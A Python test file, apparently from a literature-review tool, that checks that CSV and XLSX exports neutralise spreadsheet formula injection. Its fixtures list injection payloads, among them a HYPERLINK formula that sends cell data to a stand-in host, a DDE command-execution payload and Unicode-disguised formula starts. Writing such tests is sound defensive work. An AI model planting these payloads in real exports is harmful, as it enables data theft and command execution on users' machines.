"""Hostile records: text that a spreadsheet would run as a formula is neutralised in
CSV and XLSX, while values stored as numbers stay numbers."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from reviewer.domain import ParsedRecord, Source
from reviewer.domain.cells import FORMULA_STARTS, cell, csv_text, safe_text
from reviewer.export.csv_export import export_csv
from reviewer.export.xlsx_export import export_xlsx
from reviewer.review import screening as sc
from reviewer.store import Store

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def store(review_path, template):
    s = Store.create(review_path, "hostile", template)
    with s.atomic():
        sid = s.add_source(Source(name="=evil.ris", sha256="e" * 64, size=1, format="ris"))
        s.add_records(
            sid,
            [
                ParsedRecord(title=t, journal="@journal", authors=["-Smith"], text=f"text {i}")
                for i, t in enumerate(HOSTILE)
            ],
        )
    for rid, hostile in zip(s.record_ids(), HOSTILE, strict=True):
        s.set_value(rid, "condition", hostile, "=reviewer")
        s.set_value(rid, "sample_size", -2, "alice")
        s.set_value(rid, "age", -2.5, "alice")
        s.set_value(rid, "response_rate_pct", [-3.0], "alice")
        s.set_value(rid, "interventions", ["=1+2", "plain"], "alice")
        sc.decide(s, rid, "exclude", "alice", reason="wrong population", note="=NOTE()")
    yield s
    s.close()


def test_safe_text_rules():
    for start in FORMULA_STARTS:
        assert safe_text(start + "x") == "'" + start + "x"
    assert safe_text("plain =1") == "plain =1"
    assert safe_text("") == ""
    assert csv_text(-2) == "-2" and csv_text(-2.5) == "-2.5" and csv_text(3.0) == "3"
    assert csv_text(cell([-3.0])) == "-3"
    assert csv_text(cell(["=1", "b"])) == "'=1; b"
    assert csv_text(True) == "true" and csv_text(None) == ""
    assert cell(float("nan")) == "nan"


def _hostile_in(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def test_csv_neutralises_every_text_cell_and_keeps_numbers(store, tmp_path):
    for table in ("extraction", "screening", "log"):
        out = tmp_path / f"{table}.csv"
        export_csv(store, out, table=table, decision="any")
        with open(out, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if _hostile_in(c) and not _is_number(c)], table
    with open(tmp_path / "extraction.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["record_title"] for r in rows] == ["'" + t for t in HOSTILE]
    assert [r["condition"] for r in rows] == ["'" + t for t in HOSTILE]
    first = rows[0]
    assert first["record_journal"] == "'@journal" and first["record_authors"] == "'-Smith"
    assert first["source"] == "'=evil.ris" and first["condition__set_by"] == "'=reviewer"
    assert (first["sample_size"], first["age"], first["response_rate_pct"]) == ("-2", "-2.5", "-3")
    assert first["interventions"] == "'=1+2; plain"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_xlsx_strings_are_text_never_formulas_and_numbers_are_numbers(store, tmp_path):
    out = tmp_path / "hostile.xlsx"
    export_xlsx(store, out, decision="any")
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not _hostile_in(c.value), (sheet.title, c.coordinate, c.value)
    sheet = book["Extraction"]
    header = [c.value for c in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # a carriage return is stored as Excel's _x000D_ escape, which openpyxl leaves as is
    titles = [r[header.index("record_title")].replace("_x000D_", "\r") for r in rows]
    assert titles == ["'" + t for t in HOSTILE]
    first = dict(zip(header, rows[0], strict=True))
    assert first["sample_size"] == -2 and isinstance(first["sample_size"], int)
    assert first["age"] == -2.5 and first["response_rate_pct"] == -3
    assert first["interventions"] == "'=1+2; plain"
    screening = list(book["Screening"].iter_rows(values_only=True))
    assert "'=NOTE()" in screening[1]


DISGUISED = [
    "\uff1d1+1",  # full-width =
    "\ufe66HYPERLINK(1)",  # small =
    "\uff0b1",
    "\uff0d2+3",
    "\uff20SUM(A1)",
    " =1+1",
    "\n=1+1",
    "\u200b=1+1",
    "\ufeff@SUM(A1)",
    "  \u00a0-2+3",
]


def test_formulas_in_disguise_are_neutralised_too(review_path, template, tmp_path):
    """Full-width and small signs, and blanks a spreadsheet may skip before a sign."""
    with Store.create(review_path, "disguised", template) as s:
        s.add_records(None, [ParsedRecord(title=t, text=f"t{i}") for i, t in enumerate(DISGUISED)])
        for rid in s.record_ids():
            sc.decide(s, rid, "include", "alice")
        out_csv, out_xlsx = tmp_path / "d.csv", tmp_path / "d.xlsx"
        export_csv(s, out_csv, table="extraction", decision="any")
        export_xlsx(s, out_xlsx, decision="any")
    with open(out_csv, encoding="utf-8", newline="") as f:
        titles = [r["record_title"] for r in csv.DictReader(f)]
    assert titles == ["'" + t for t in DISGUISED]
    sheet = openpyxl.load_workbook(out_xlsx)["Extraction"]
    header = [c.value for c in sheet[1]]
    cells = [r[header.index("record_title")] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert cells == ["'" + t for t in DISGUISED]
    assert safe_text("a = b") == "a = b" and safe_text("  plain") == "  plain"
    assert csv_text("Smith\x00, J") == "Smith, J"
